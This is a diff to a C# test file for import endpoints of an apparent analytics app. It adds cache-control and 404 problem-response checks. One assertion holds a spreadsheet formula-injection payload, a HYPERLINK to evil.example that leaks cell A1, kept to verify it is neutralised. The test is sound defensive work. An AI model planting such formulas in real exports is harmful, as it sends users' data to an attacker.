@@ -1,6 +1,7 @@
 using System.Net;
 using System.Text;
 using System.Text.Json;
+using FunnelInsight.Tests.Support;
 
 namespace FunnelInsight.Tests.Web.Endpoints;
 
@@ -10,13 +11,14 @@ public sealed class ImportEndpointsTests(AccountsApp app)
     private const string NewEvents = "event_time,event_type,session_id\n2024-04-01T09:00:00Z,session_start,n1\n2024-04-01T09:02:00Z,add_to_cart,n1\n";
 
     [Fact]
-    public async Task A_member_downloads_their_error_file_with_the_imported_formula_neutralised()
+    public async Task A_member_downloads_their_error_file_uncached_with_the_imported_formula_neutralised()
     {
         using var client = await app.SignedInAsync("analyst");
 
         using var response = await client.GetAsync(new Uri($"stores/{app.AlphaId}/imports/{app.AlphaImportId}/errors.csv", UriKind.Relative));
 
         Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        Assert.True(response.Headers.CacheControl?.NoStore, "an error file (customer data) must not be cached");
         var lines = (await response.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
         Assert.Equal(2, lines.Length);
         Assert.EndsWith(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1),add_to_cart,s1\"", lines[1], StringComparison.Ordinal);
@@ -36,14 +38,14 @@ public sealed class ImportEndpointsTests(AccountsApp app)
     }
 
     [Fact]
-    public async Task A_token_of_store_a_gets_404_for_store_bs_error_file()
+    public async Task A_token_of_store_a_gets_a_404_problem_for_store_bs_error_file()
     {
         using var client = app.WithToken("owner");
 
         using var response = await client.GetAsync(new Uri(Path("api/stores/{B}/imports/{B}/errors.csv"), UriKind.Relative));
 
-        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
-        Assert.Equal("", await response.Content.ReadAsStringAsync());
+        var problem = await Problems.AssertAsync(response, HttpStatusCode.NotFound);
+        Assert.DoesNotContain("bravo", problem.GetRawText(), StringComparison.OrdinalIgnoreCase);
     }
 
     [Theory]
